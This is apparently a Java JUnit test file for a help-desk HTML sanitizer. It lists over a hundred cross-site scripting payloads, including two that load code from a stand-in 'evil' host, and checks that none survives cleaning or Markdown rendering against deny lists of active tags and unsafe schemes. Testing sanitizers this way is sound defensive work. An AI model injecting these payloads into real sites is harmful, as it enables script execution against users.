package dev.ticketwire.osticket.html;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ticketwire.osticket.body.TextBody;
import dev.ticketwire.osticket.markdown.MarkdownBody;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Attacks: whatever is sent, a browser that reads the result finds nothing that acts. */
class HtmlBodySafetyTest {
    private static final BodySettings SETTINGS = BodySettings.of(true, "youtube.com");
    private static final Set<String> ACTIVE = Set.of(
            "script",
            "style",
            "object",
            "embed",
            "applet",
            "svg",
            "math",
            "form",
            "input",
            "button",
            "link",
            "meta",
            "base",
            "template",
            "noscript",
            "frame",
            "frameset",
            "audio",
            "video",
            "source",
            "track",
            "xmp",
            "plaintext",
            "noembed",
            "noframes",
            "title",
            "head",
            "html",
            "body",
            "marquee",
            "keygen",
            "isindex",
            "portal",
            "dialog");
    private static final Set<String> SAFE_SCHEMES =
            Set.of("", "http", "https", "mailto", "ftp", "cid", "denied", "tel", "news", "irc");

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&amp;lt;script&amp;gt;alert(1)",
                "<<>script>alert(1)<<>/script>",
                "<script\u0000>alert(1)</script>",
                "<script/x>alert(1)</script/x>",
                "<script>alert(1)",
                "<script <b>alert(1)</script </b>",
                "<img src=x onerror=alert(1)>",
                "<img src=x.png onerror=alert(1)>",
                "<img/src=x.png/onerror=alert(1)>",
                "<img src=\"x.png\"onerror=alert(1)>",
                "<img src=`x.png`onerror=alert(1)>",
                "<img src=\"x.png\" alt=\"`><script>alert(1)</script>\">",
                "<img src=\"x.png\" alt='\"onerror=\"alert(1)'>",
                "<body onload=alert(1)>x",
                "<p onmouseover\n=alert(1)>x</p>",
                "<p ONCLICK=alert(1)>x</p>",
                "<p x/onclick=alert(1)>x</p>",
                "<p on\u0000click=alert(1)>x</p>",
                "<p style=\"x:expression(alert(1))\">x</p>",
                "<p style=\"x:exp/**/ression(alert(1))\">x</p>",
                "<p style=\"x:\\65xpression(alert(1))\">x</p>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<p style=\"background:URL ( 'javascript&colon;alert(1)' )\">x</p>",
                "<p style=\"background:u\\72l(javascript:alert(1))\">x</p>",
                "<p style=\"-moz-binding:url(http://evil/x.xml#y)\">x</p>",
                "<p style=\"behavior:url(x.htc)\">x</p>",
                "<p style=\"color:red;}*{background:red\">x</p>",
                "<p style=\"&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;:x\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"jav\tascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>",
                "<a href=\"java\u0000script:alert(1)\">x</a>",
                "<a href=\"&#1;javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"&amp;#106;avascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"livescript:x\">x</a>",
                "<a xlink:href=\"javascript:alert(1)\">x</a>",
                "<area href=\"javascript:alert(1)\">",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"javascript:alert(1)//.png\">",
                "<img src=\"data:text/html,<script>alert(1)</script>.png\">",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<img srcset=\"javascript:alert(1)\" src=x.png>",
                "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\" src=x.png>",
                "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</table>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"https://youtube.com/\" srcdoc=\"<script>alert(1)</script>\" onload=alert(1)></iframe>",
                "<iframe><script>alert(1)</script></iframe>",
                "<frameset onload=alert(1)><frame src=\"javascript:alert(1)\"></frameset>",
                "<object data=\"javascript:alert(1)\"><param name=x value=y>z</object>",
                "<embed src=\"javascript:alert(1)\">",
                "<applet code=x>y</applet>",
                "<svg onload=alert(1)><circle/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><script>alert&lpar;1)</script>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><a href=\"javascript:alert(1)\">x</a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><set attributeName=href to=javascript:alert(1)>",
                "<svg><use href=\"data:image/svg+xml,x\"/></svg>",
                "<svg><foreignObject><img src=x.png onerror=alert(1)></foreignObject></svg>",
                "<svg></p><style><a id=\"</style><img src=1.png onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1.png onerror=alert(1)&gt;\">",
                "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1.png>\">",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src=x.png onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x.png onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<xmp><p title=\"</xmp><img src=x.png onerror=alert(1)>\">",
                "<noembed><p title=\"</noembed><img src=x.png onerror=alert(1)>\">",
                "<plaintext><script>alert(1)</script>",
                "<textarea><script>alert(1)</script></textarea>",
                "<textarea></textarea><script>alert(1)</script>",
                "<textarea>&amp;lt;/textarea&amp;gt;<img src=x.png onerror=alert(1)></textarea>",
                "<title><p title=\"</title><script>alert(1)</script>\">",
                "<select><style></select><script>alert(1)</script></style>",
                "<select><iframe></select><img src=x.png onerror=alert(1)>",
                "<!--><script>alert(1)</script>-->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<svg><![CDATA[<script>alert(1)</script>]]></svg>",
                "<?xml version=\"1.0\"?><script>alert(1)</script>",
                "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<link rel=stylesheet href=\"javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\"><a href=\"x\">y</a>",
                "<form action=\"javascript:alert(1)\"><input type=submit formaction=\"javascript:alert(1)\"></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>",
                "<isindex action=\"javascript:alert(1)\" type=image>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)></audio>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<keygen autofocus onfocus=alert(1)>",
                "<font color='\"><script>alert(1)</script>'>x</font>",
                "<font face=\"a;background:url(javascript:alert(1))\">x</font>",
                "<td bgcolor=\"red;background:url(javascript:alert(1))\">x</td>",
                "<hr size=\"1;behavior:url(x)\" color=x>",
                "<p data-x='\"><script>alert(1)</script>'>x</p>",
                "<p data-\"onclick=alert(1)=1>x</p>",
                "<p class='Mso\"onclick=\"alert(1)'>x</p>",
                "<a title=\"x\" href=\"x\" title='\" onclick=\"alert(1)'>x</a>",
                "<p lang=\"&quot; onclick=&quot;alert(1)\">x</p>",
                "<p lang=\"&amp;quot; onclick=&amp;quot;alert(1)\">x</p>",
                "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingThatActsSurvives(String attack) {
        String clean = HtmlBody.clean(attack, SETTINGS).html();

        assertHarmless(clean);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void cleaningTwiceMakesNothingActive(String attack) {
        String clean = HtmlBody.clean(HtmlBody.clean(attack, SETTINGS).html(), SETTINGS)
                .html();

        assertHarmless(clean);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackInsideMarkdownDoesNotSurviveRendering(String attack) {
        assertHarmless(MarkdownBody.toHtml(attack));
        assertHarmless(MarkdownBody.toHtml("- [x](" + attack + ")\n\n> " + attack));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackAsTextIsOnlyText(String attack) {
        Element body = Jsoup.parseBodyFragment(TextBody.clean(attack)).body();

        assertThat(body.childrenSize()).isZero();
    }

    @Test
    void markupNestedWithoutEndIsCleanedInOneGo() {
        String deep = "<div><b><blockquote>".repeat(20_000) + "x<script>alert(1)</script>";

        String clean = HtmlBody.clean(deep, SETTINGS).html();

        assertHarmless(clean);
        assertThat(clean).contains("x");
    }

    private static void assertHarmless(String clean) {
        for (Element element :
                Jsoup.parse(clean).body().select("*").asList().stream().skip(1).toList()) {
            assertThat(element.normalName()).as(clean).isNotIn(ACTIVE);
            if (element.normalName().equals("iframe")) {
                assertThat(element.attr("src")).as(clean).startsWith("https://youtube.com/");
            }
            for (Attribute attribute : element.attributes()) {
                assertHarmless(attribute, clean);
            }
        }
    }

    private static void assertHarmless(Attribute attribute, String clean) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value = attribute.getValue().toLowerCase(Locale.ROOT);
        assertThat(name)
                .as(clean)
                .doesNotStartWith("on")
                .isNotIn("srcdoc", "srcset", "formaction", "action", "background");
        if (List.of("href", "src", "cite", "xlink:href", "data").contains(name)) {
            String plain = value.replaceAll("[\\p{Cntrl}\\s]", "");
            String scheme = plain.matches("[^/?#]*:.*") ? plain.substring(0, plain.indexOf(':')) : "";
            assertThat(scheme).as(clean).isIn(SAFE_SCHEMES);
        }
        if (name.equals("style")) {
            assertThat(value)
                    .as(clean)
                    .doesNotContain("expression", "javascript", "behavior", "binding", "\\", "/*", "<");
            assertThat(value.replace("url(denied", "")).as(clean).doesNotContain("url");
        }
    }
}
